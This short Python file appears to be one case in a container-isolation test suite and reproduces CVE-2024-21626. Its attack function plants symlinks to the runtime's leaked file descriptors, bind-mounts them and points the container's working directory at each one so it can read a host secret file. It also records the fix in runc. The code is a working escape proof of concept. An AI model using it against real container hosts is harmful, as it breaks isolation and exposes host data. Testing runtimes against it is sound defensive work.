"""The working directory is a symbolic link in a bind to a descriptor of the host's that the runtime has open."""

import os

from bypass import Failed, inert

SOURCE = "CVE-2024-21626: with a link that is not the image's"
WAY = "create"
STOPPED = inert("the low-level runtime gets no descriptor but the three standard ones")
BARE = {"runc": "corrected in Debian's 1.1.5"}
NUMBERS = range(3, 12)


def attack(t):
    os.mkdir("/mnt/host/data")
    for number in NUMBERS:
        os.symlink("/proc/self/fd/%d" % number, "/mnt/host/data/%d" % number)
    t.bind("/mnt/host/data", "/x")
    t.leak("/mnt/host")
    found = ""
    for number in NUMBERS:
        t.spec["process"]["cwd"] = "/x/%d" % number
        try:
            found = found or t.leaked(t.run("cat ./secret ../secret ../../mnt/host/secret ../../../mnt/host/secret"))
        except Failed:
            pass  # no such descriptor, or one of a file
    t.spec["process"]["cwd"] = "/"
    t.run("true")
    return found
